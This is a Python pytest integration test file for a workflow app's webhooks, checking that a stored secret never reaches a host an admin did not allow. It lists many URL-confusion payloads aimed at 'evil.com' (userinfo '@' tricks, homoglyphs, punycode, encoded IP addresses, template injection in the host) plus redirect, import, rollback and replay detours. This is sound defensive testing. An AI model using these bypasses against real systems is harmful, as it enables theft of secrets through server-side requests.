"""An editor cannot get a secret's value to a host that no admin named: each way is tried on the wire."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from standardwebhooks import Webhook as ReceiversLibrary

from bookflow.domain.executions.execution import ExecutionStatus, ReasonCode
from bookflow.domain.webhooks.signature import encode_secret
from tests.integration.http.certificates import Authority
from tests.integration.http.receivers import OK, Receiver, StartReceiver, answer
from tests.integration.http.world import LOCATION, World
from tests.unit.api.graphs import graph_of

TOKEN = "tok-0123456789-abcdef"
SIGNING = encode_secret(b"s" * 32)
HEADERS = {"X-Crm": "{{ secret.crm_token }}"}

ADDRESSES = {
    "another host": "https://evil.com:{tls}/",
    "the host as a label": "https://crm.example.com.evil.com:{tls}/",
    "the host in the path": "https://evil.com:{tls}/crm.example.com",
    "the host in the query": "https://evil.com:{tls}/?crm.example.com",
    "the host in the fragment": "https://evil.com:{tls}/#crm.example.com",
    "a longer name": "https://evilcrm.example.com:{tls}/",
    "a host above": "https://example.com:{tls}/",
    "a host below": "https://deep.crm.example.com:{tls}/",
    "the star's own domain": "https://example.org:{tls}/",
    "a star as a part of a label": "https://evilexample.org:{tls}/",
    "a user that looks like the host": "https://crm.example.com@evil.com:{tls}/",
    "a password": "https://crm.example.com:x@evil.com:{tls}/",
    "a backslash": "https://crm.example.com\\@evil.com:{tls}/",
    "a cyrillic letter": "https://crm.ex\u0430mple.com:{tls}/",
    "punycode": "https://xn--crm-example-com-abc.evil.com:{tls}/",
    "another dot": "https://crm.example.com\u3002evil.com:{tls}/",
    "a trailing dot of another host": "https://evil.com.:{tls}/",
    "two dots": "https://crm.example.com..evil.com:{tls}/",
    "capitals of another host": "HTTPS://EVIL.COM:{tls}/",
    "an address": "https://127.0.0.1:{tls}/",
    "an address in hexadecimal": "https://0x7f000001:{tls}/",
    "an address as a number": "https://2130706433:{tls}/",
    "an address in octal": "https://0177.0.0.1:{tls}/",
    "an address of IPv6": "https://[::ffff:127.0.0.1]:{tls}/",
    "plain http": "http://crm.example.com:{plain}/",
    "plain http in capitals": "HTTP://CRM.EXAMPLE.COM:{plain}/",
    "a variable as the host": "https://{{{{ event.confirmation_code }}}}:{tls}/",
    "a variable as a label": "https://{{{{ event.confirmation_code }}}}.example.org:{tls}/",
    "a variable behind the host": "https://crm.example.com{{{{ event.confirmation_code }}}}:{tls}/",
    "a variable as the port": "https://crm.example.com:{{{{ event.confirmation_code }}}}/",
    "a variable as the whole": "{{{{ event.confirmation_code }}}}",
    "a comment in the host": "https://crm.example.com{{# #}}.evil.com:{tls}/",
    "a condition in the host": "https://crm.example.com{{% if 1 %}}.evil.com{{% endif %}}:{tls}/",
}
"""Where an editor may point a webhook, as far as the receivers' ports allow."""

VALUES = ("evil.com", "@evil.com", ".evil.com", "https://evil.com", "443@evil.com")
"""What a guest may write into a field that becomes part of an address."""


class Receivers:
    """The internet of these tests: one receiver with TLS and one without, for every host."""

    def __init__(self, tls: Receiver, plain: Receiver) -> None:
        self.tls, self.plain = tls, plain

    def took_a_secret(self) -> list[str]:
        """Return the hosts that got a secret, `http` before those without TLS."""
        found = [(each, "") for each in self.tls.requests]
        found += [(each, "http ") for each in self.plain.requests]
        return [
            how + re.search(rb"(?im)^host: ([^:\r]+)", request)[1].decode()  # type: ignore[index]
            for request, how in found
            if TOKEN.encode() in request or SIGNING.encode() in request
        ]


@pytest.fixture
def receivers(start: StartReceiver, authority: Authority) -> Receivers:
    return Receivers(start(OK, tls=authority.server_context("any.test")), start(OK))


@pytest.fixture
def world(receivers: Receivers) -> World:
    made = World(receivers.tls.port, receivers.plain.port)
    made.store_secret("crm_token", TOKEN, "crm.example.com", "*.example.org")
    made.store_secret("no_hosts", TOKEN)
    made.store_secret("webhook-signing", SIGNING)
    return made


def allowed(receivers: Receivers) -> str:
    return f"https://crm.example.com:{receivers.tls.port}/hook"


def evil(receivers: Receivers) -> str:
    return f"https://evil.com:{receivers.tls.port}/hook"


def test_the_host_that_an_admin_named_gets_it_signed_for_the_specification_s_library(
    world: World, receivers: Receivers
) -> None:
    address = world.draw({"url": allowed(receivers), "headers": HEADERS})
    assert world.publish(address).status == world.turn_on(address).status == 200
    world.happen()
    assert [each.status for each in world.resend_all(address)] == [200]
    assert world.send_test(address).json["answer"]["status"] == 200
    assert receivers.took_a_secret() == ["crm.example.com"] * 3
    ids = []
    for request in receivers.tls.requests:
        head, _, body = request.partition(b"\r\n\r\n")
        lines = (line.partition(":") for line in head.decode().split("\r\n")[1:])
        headers = {name.lower(): value.strip() for name, _, value in lines}
        ReceiversLibrary(SIGNING).verify(body, headers)
        ids.append(headers["webhook-id"])
    step, again, test = ids
    assert step == again != test


@pytest.mark.parametrize("way", ADDRESSES)
def test_no_address_leads_a_secret_elsewhere(world: World, receivers: Receivers, way: str) -> None:
    url = ADDRESSES[way].format(tls=receivers.tls.port, plain=receivers.plain.port)
    config = {"url": url, "headers": HEADERS}
    address = world.draw(config)
    published = world.publish(address)
    assert published.status == 422, published.text
    # A version from before the rule, or a hand at the table: the step itself must refuse.
    _publish_unchecked(world, address)
    for number, value in enumerate(VALUES):
        world.happen(number, confirmation_code=value)
    world.send_test(address)
    world.resend_all(address)
    assert receivers.took_a_secret() == []


def _publish_unchecked(world: World, address: str) -> None:
    """Put the webhook of the draft into a published version past every check, and turn it on."""
    store, workflow_id = world.ports.workflows, address.rpartition("/")[2]
    draft = store.get("loc-1", workflow_id).draft
    harmless = graph_of(
        {"id": "hook", "type": "webhook", "config": {"url": "https://a.example.com"}}
    )
    etag = world.editor.get(address).etag
    world.editor.put(address, {"name": "Hook", "draft": harmless}, if_match=etag)
    assert world.publish(address).status == 200
    assert world.turn_on(address).status == 200
    version = store.version("loc-1", workflow_id, 1)
    store.published["loc-1", workflow_id, 1] = version.changed(graph=draft)
    etag = world.editor.get(address).etag
    saved = world.editor.put(
        address, {"name": "Hook", "draft": draft.model_dump(mode="json")}, if_match=etag
    )
    assert saved.status == 200, saved.text


def redirected(world: World, receivers: Receivers) -> None:
    location = f"HTTP/1.1 302 Found\r\nLocation: {evil(receivers)}\r\nContent-Length: 0\r\n\r\n"
    receivers.tls.reply = answer(location.encode())
    address = world.draw({"url": allowed(receivers), "headers": HEADERS, "method": "GET"})
    world.publish(address)
    world.turn_on(address)
    world.happen()
    world.send_test(address)
    world.resend_all(address)


def imported(world: World, receivers: Receivers) -> None:
    address = world.draw({"url": evil(receivers), "headers": HEADERS})
    exported = world.editor.get(f"{address}/export").json
    answer = world.editor.post(f"{LOCATION}/workflows/import", {"workflow": exported})
    assert answer.status == 201, answer.text
    copy = f"{LOCATION}/workflows/{answer.json['workflow']['id']}"
    assert world.publish(copy).status == 422
    world.turn_on(copy)
    world.happen()
    world.send_test(copy)


def _with_an_old_version(world: World, receivers: Receivers) -> str:
    """Publish a version to a host that an admin named then and has taken back since."""
    world.name_hosts("crm_token", "crm.example.com", "evil.com")
    address = world.draw({"url": evil(receivers), "headers": HEADERS})
    assert world.publish(address).status == world.turn_on(address).status == 200
    world.happen()
    assert receivers.took_a_secret() == ["evil.com"]
    receivers.tls.requests.clear()
    world.name_hosts("crm_token", "crm.example.com")
    return address


def rolled_back(world: World, receivers: Receivers) -> None:
    address = _with_an_old_version(world, receivers)
    world.draw({"url": allowed(receivers), "headers": HEADERS}, address)
    assert world.publish(address).status == 200
    assert world.roll_back(address, 1).status == 422
    world.happen(2)
    assert receivers.took_a_secret() == ["crm.example.com"]
    receivers.tls.requests.clear()
    world.turn_on(address, on=False)
    world.roll_back(address, 1)
    world.turn_on(address)
    world.happen(3)


def resumed(world: World, receivers: Receivers) -> None:
    address = _with_an_old_version(world, receivers)
    (execution,) = world.happen(2)
    world.ports.executions.update(
        execution.changed(status=ExecutionStatus.FAILED, reason_code=ReasonCode.STEP_FAILED)
    )
    for version in ("same", "newest"):
        answer = world.editor.post(
            f"{LOCATION}/executions/{execution.id}/resume", {"version": version}
        )
        assert answer.status in (202, 409, 422), answer.text
        for each in list(world.ports.executions.stored.values()):
            world.run(each)
    assert address


def replayed(world: World, receivers: Receivers) -> None:
    _with_an_old_version(world, receivers)
    (execution,) = world.ports.executions.stored.values()
    answer = world.editor.post(f"{LOCATION}/executions/{execution.id}/replay")
    assert answer.status == 202, answer.text
    world.happen(2)


def resent(world: World, receivers: Receivers) -> None:
    address = _with_an_old_version(world, receivers)
    assert [each.status for each in world.resend_all(address)] == [422]


def resent_to_a_new_draft(world: World, receivers: Receivers) -> None:
    address = world.draw({"url": allowed(receivers), "headers": HEADERS})
    assert world.publish(address).status == world.turn_on(address).status == 200
    world.happen()
    assert receivers.took_a_secret() == ["crm.example.com"]
    world.draw({"url": evil(receivers), "headers": HEADERS}, address)
    assert [each.status for each in world.resend_all(address)] == [200]
    assert receivers.took_a_secret() == ["crm.example.com"] * 2
    receivers.tls.requests.clear()


def of_a_secret_without_hosts(world: World, receivers: Receivers) -> None:
    address = world.draw({"url": evil(receivers), "headers": {"X-A": "{{ secret.no_hosts }}"}})
    assert world.publish(address).status == 422
    world.send_test(address)


def of_the_signing_secret(world: World, receivers: Receivers) -> None:
    hook = {"url": allowed(receivers), "headers": {"X-A": "{{ secret.webhook-signing }}"}}
    address = world.draw(hook)
    assert world.publish(address).status == 422
    world.send_test(address)


def named_by_the_editor(world: World, receivers: Receivers) -> None:
    for method, path, body in (
        ("PUT", "/hosts", {"hosts": ["evil.com"]}),
        ("PUT", "", {"value": "a value of the editor"}),
        ("POST", "/rotate", {"value": "a value of the editor"}),
    ):
        answer = world.editor.call(
            method, f"{LOCATION}/secrets/crm_token{path}", body, headers={"if-match": '"1"'}
        )
        assert answer.status == 403, answer.text
    address = world.draw({"url": evil(receivers), "headers": HEADERS})
    world.send_test(address)


def in_another_place(world: World, receivers: Receivers) -> None:
    for config in (
        {"url": f"{evil(receivers)}?t={{{{ secret.crm_token }}}}"},
        {"url": evil(receivers), "body": '{"t": "{{ secret.crm_token }}"}'},
        {"url": evil(receivers), "body_type": "form", "body": "t={{ secret.crm_token }}"},
        {"url": evil(receivers), "headers": {"X-A": "{{ secret.crm_token | upper }}"}},
        {"url": evil(receivers), "headers": {"X-A": "{{ secret['crm_token'] }}"}},
        {"url": evil(receivers), "headers": {"Host": "crm.example.com", **HEADERS}},
    ):
        address = world.draw(config)
        assert world.publish(address).status == 422
        world.send_test(address)


WAYS: list[Callable[[World, Receivers], None]] = [
    redirected,
    imported,
    rolled_back,
    resumed,
    replayed,
    resent,
    resent_to_a_new_draft,
    of_a_secret_without_hosts,
    of_the_signing_secret,
    named_by_the_editor,
    in_another_place,
]


@pytest.mark.parametrize("way", WAYS, ids=lambda each: each.__name__)
def test_no_detour_leads_a_secret_elsewhere(
    world: World, receivers: Receivers, way: Callable[[World, Receivers], None]
) -> None:
    way(world, receivers)
    assert set(receivers.took_a_secret()) <= {"crm.example.com"}


def test_no_answer_of_the_api_showed_an_editor_the_value(
    world: World, receivers: Receivers
) -> None:
    receivers.tls.reply = _echo
    address = world.draw({"url": allowed(receivers), "headers": HEADERS})
    assert world.publish(address).status == world.turn_on(address).status == 200
    (execution,) = world.happen()
    shown = [
        world.send_test(address),
        *world.resend_all(address),
        world.editor.get(f"{address}/steps/hook/deliveries"),
        world.editor.get(f"{LOCATION}/executions/{execution.id}"),
        world.editor.get(f"{LOCATION}/secrets"),
        world.admin.get(f"{LOCATION}/audit"),
    ]
    assert [each.status for each in shown] == [200] * 6
    assert receivers.took_a_secret() == ["crm.example.com"] * 3
    assert not any(TOKEN in each.text or SIGNING in each.text for each in shown)
    assert "***" in shown[0].json["answer"]["body"]


def _echo(connection, stop) -> None:  # type: ignore[no-untyped-def]
    """Answer with what the receiver knows: the secret, as itself and in JSON."""
    body = f'{{"got": "{TOKEN}", "again": "{TOKEN}"}}'.encode()
    head = f"HTTP/1.1 200 OK\r\nX-Echo: {TOKEN}\r\nContent-Length: {len(body)}\r\n\r\n"
    connection.sendall(head.encode() + body)
